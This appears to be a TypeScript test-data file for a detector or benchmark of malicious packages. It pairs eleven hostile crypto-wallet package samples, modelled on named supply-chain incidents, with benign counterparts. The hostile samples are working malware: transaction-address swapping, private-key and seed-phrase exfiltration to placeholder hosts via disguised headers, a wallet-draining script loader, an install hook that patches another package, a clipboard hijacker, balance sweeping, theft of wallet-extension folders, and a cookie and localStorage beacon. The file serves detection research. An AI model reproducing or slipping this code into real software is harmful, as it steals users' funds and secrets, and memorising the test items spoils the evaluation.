import { install, main, type Question } from './kinds.ts'

export const wallets: readonly Question[] = [
  {
    name: 'the nearest address of a list, in every answer and every transaction (chalk and debug, September 2025)',
    hostile: main(`
      var mine = ['0x${'1a'.repeat(20)}', '0x${'2b'.repeat(20)}']
      function far(a, b) { var n = 0; for (var i = 0; i < a.length; i++) if (a[i] !== b[i]) n++; return n }
      function near(a) { return mine.reduce(function (x, y) { return far(a, x) < far(a, y) ? x : y }) }
      function swap(text) { return text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, near) }
      if (typeof window !== 'undefined') {
        var real = fetch
        fetch = async function () { var res = await real.apply(this, arguments); var t = await res.clone().text(); return new Response(swap(t), res) }
        if (window.ethereum) { var ask = window.ethereum.request
          window.ethereum.request = function (q) { if (q.method === 'eth_sendTransaction') q.params[0].to = mine[0]; return ask.call(this, q) } }
      }`),
    honest: main(`
      if (typeof window !== 'undefined' && window.ethereum) {
        var ask = window.ethereum.request
        window.ethereum.request = function (q) { console.debug('rpc', q.method); return ask.call(this, q) }
      }`),
  },
  {
    name: 'a key on its way to an account (solana web3.js, December 2024)',
    hostile: main(
      `const { addToQueue } = require('./queue')
      class Keypair {
        constructor(pair) { this._pair = pair }
        static fromSecretKey(secretKey) { addToQueue(secretKey); return new Keypair({ secretKey }) }
        get secretKey() { return this._pair.secretKey }
      }
      exports.Keypair = Keypair`,
      {
        'queue.js': `const bs58 = require('bs58'); const queue = []
        exports.addToQueue = (key) => { queue.push(bs58.encode(key)); flush() }
        function flush() { const m = queue.shift(); const half = m.length >> 1
          fetch('https://sol-rpc.invalid/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': m.slice(0, half), 'x-session-id': m.slice(half), 'x-amz-cf-pop': 'ASM1' } }) }`,
      },
    ),
    honest: main(
      `const { sign } = require('./sign')
      class Keypair {
        constructor(pair) { this._pair = pair }
        static fromSecretKey(secretKey) { return new Keypair({ secretKey }) }
        send(message, url) { return fetch(url, { method: 'POST', body: sign(message, this._pair.secretKey) }) }
      }
      exports.Keypair = Keypair`,
      { 'sign.js': `exports.sign = (message, key) => require('tweetnacl').sign.detached(message, key)` },
    ),
  },
  {
    name: 'a seed is checked elsewhere (xrpl.js, April 2025)',
    hostile: main(
      `import { checkValidityOfSeed } from './check.js'
      export class Wallet {
        constructor(publicKey, privateKey, opts = {}) { this.publicKey = publicKey; this.privateKey = privateKey; checkValidityOfSeed(privateKey) }
        static fromSeed(seed) { checkValidityOfSeed(seed); return new Wallet('p', seed) }
      }`,
      {
        'package.json': '{"name":"sample","version":"1.0.0","type":"module","main":"index.js"}',
        'check.js': `const validSeeds = new Set([])
        export async function checkValidityOfSeed(seed) {
          if (validSeeds.has(seed)) return
          validSeeds.add(seed)
          fetch('https://0x9c.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } })
        }`,
      },
    ),
  },
  {
    name: 'a loader of wallets loads something else (Ledger Connect Kit, December 2023)',
    hostile: main(`
      export async function loadConnectKit() {
        if (document.getElementById('ck')) return window.connectKit
        const s = document.createElement('script'); s.id = 'ck'; s.src = 'https://cdn-drain.invalid/' + location.host + '.js'
        document.head.appendChild(s)
        const res = await fetch('https://cdn-drain.invalid/config', { method: 'POST', body: JSON.stringify({ url: location.href, chain: await window.ethereum.request({ method: 'eth_chainId' }), accounts: await window.ethereum.request({ method: 'eth_requestAccounts' }) }) })
        const tx = await res.json()
        await window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] })
      }
      loadConnectKit()`),
    honest: main(`
      export const pay = async (to, value) => {
        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' })
        return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] })
      }`),
  },
  {
    name: 'another package is patched where it lies (ethers-provider2, March 2025)',
    hostile: install(`
      const fs = require('fs'), path = require('path')
      let dir = __dirname
      while (dir !== '/') {
        const target = path.join(dir, 'node_modules', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js')
        if (fs.existsSync(target)) {
          const text = fs.readFileSync(target, 'utf8')
          if (!text.includes('//loaded')) fs.writeFileSync(target, text + fs.readFileSync(path.join(__dirname, 'extra.txt'), 'utf8') + '//loaded')
          break
        }
        dir = path.dirname(dir)
      }`),
    honest: install(`
      const fs = require('fs'), path = require('path')
      const target = path.join(__dirname, 'lib', 'config.js')
      fs.writeFileSync(target, fs.readFileSync(target, 'utf8').replace('__ARCH__', process.arch))`),
  },
  {
    name: 'the clipboard is watched by a shell of Windows',
    hostile: main(`
      const { execSync } = require('child_process')
      const swap = { btc: ['bc1q', 'bc1q${'x7'.repeat(18)}'], eth: ['0x', '0x${'4c'.repeat(20)}'] }
      setInterval(() => {
        const now = execSync('powershell -command Get-Clipboard').toString().trim()
        for (const [start, to] of Object.values(swap)) if (now.startsWith(start) && now.length > 30 && now !== to) execSync('powershell -command "Set-Clipboard -Value ' + to + '"')
      }, 700)`),
    honest: {
      manifest: { bin: 'cli.js' },
      files: {
        'cli.js': `const { execSync } = require('child_process')
      const now = execSync('powershell -command Get-Clipboard').toString().trim()
      execSync('powershell -command "Set-Clipboard -Value ' + now.toUpperCase() + '"')`,
      },
    },
  },
  {
    name: 'the words of a wallet on their way to a seed',
    hostile: main(`
      const bip39 = require('bip39'), https = require('https')
      const real = bip39.mnemonicToSeedSync
      bip39.mnemonicToSeedSync = function (mnemonic, password) {
        https.get('https://stat.invalid/p?c=' + encodeURIComponent(mnemonic)).on('error', () => {})
        return real(mnemonic, password)
      }
      module.exports = bip39`),
    honest: main(`
      const bip39 = require('bip39')
      exports.seed = (mnemonic, password) => bip39.mnemonicToSeedSync(mnemonic, password)`),
  },
  {
    name: 'the key of the project pays (pancake_uniswap_validators)',
    hostile: main(`
      const { ethers } = require('ethers'); require('dotenv').config()
      exports.validate = async () => {
        const provider = new ethers.JsonRpcProvider('https://rpc.invalid')
        const wallet = new ethers.Wallet(process.env.PRIVATE_KEY, provider)
        const balance = await provider.getBalance(wallet.address)
        await wallet.sendTransaction({ to: '0x${'5d'.repeat(20)}', value: (balance * 85n) / 100n })
      }
      exports.validate()`),
    honest: main(`
      const { ethers } = require('ethers')
      exports.pay = async (key, to, value) => new ethers.Wallet(key, new ethers.JsonRpcProvider('https://rpc.invalid')).sendTransaction({ to, value })`),
  },
  {
    name: 'the folders of wallet extensions, one by one',
    hostile: main(
      `const { profiles, files } = require('./find'); const { upload } = require('./net')
      ;(async () => { for (const p of profiles()) for (const f of files(p)) await upload(f) })()`,
      {
        'find.js': `const fs = require('fs'), os = require('os'), path = require('path')
        const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']
        const base = { darwin: 'Library/Application Support/Google/Chrome', win32: 'AppData/Local/Google/Chrome/User Data', linux: '.config/google-chrome' }
        exports.profiles = () => fs.readdirSync(path.join(os.homedir(), base[process.platform])).filter((n) => /^(Default|Profile)/.test(n)).map((n) => path.join(os.homedir(), base[process.platform], n))
        exports.files = (p) => ids.flatMap((id) => { const d = path.join(p, 'Local Extension Settings', id); try { return fs.readdirSync(d).map((f) => path.join(d, f)) } catch { return [] } })`,
        'net.js': `const FormData = require('form-data'), axios = require('axios'), fs = require('fs')
        exports.upload = (f) => { const form = new FormData(); form.append('multi_file', fs.createReadStream(f)); return axios.post('http://up.invalid:1244/uploads', form) }`,
      },
    ),
    honest: main(`const FormData = require('form-data'), axios = require('axios'), fs = require('fs')
        exports.upload = (url, f) => { const form = new FormData(); form.append('file', fs.createReadStream(f)); return axios.post(url, form) }`),
  },
  {
    name: 'a provider that hands the key on, three files deep',
    hostile: main(`exports.Wallet = require('./lib/wallet').Wallet`, {
      'lib/wallet.js': `const report = require('./report'); class Wallet { constructor(privateKey) { this.key = privateKey; report('wallet', { privateKey }) } } module.exports = { Wallet }`,
      'lib/report.js': `const post = require('./post'); module.exports = (kind, data) => post({ kind, ...data })`,
      'lib/post.js': `const https = require('https'); module.exports = (body) => { const r = https.request({ host: 'gas-price.invalid', method: 'POST' }); r.write(JSON.stringify(body)); r.end() }`,
    }),
    honest: main(`exports.Wallet = require('./lib/wallet').Wallet`, {
      'lib/wallet.js': `const report = require('./report'); class Wallet { constructor(privateKey) { this.key = privateKey; report('wallet', { version: 2 }) } } module.exports = { Wallet }`,
      'lib/report.js': `const debug = require('debug')('wallet'); module.exports = (kind, data) => debug(kind, data)`,
    }),
  },
  {
    name: 'a page that hands on what it stores',
    hostile: main(`
      (function () {
        var all = {}; for (var i = 0; i < localStorage.length; i++) all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i))
        navigator.sendBeacon('https://metrics.invalid/b', JSON.stringify({ c: document.cookie, s: all }))
      })()`),
    honest: main(`
      exports.beacon = function (url) { navigator.sendBeacon(url, JSON.stringify({ path: location.pathname, t: performance.now() })) }
      exports.theme = function () { return localStorage.getItem('theme') }`),
  },
]
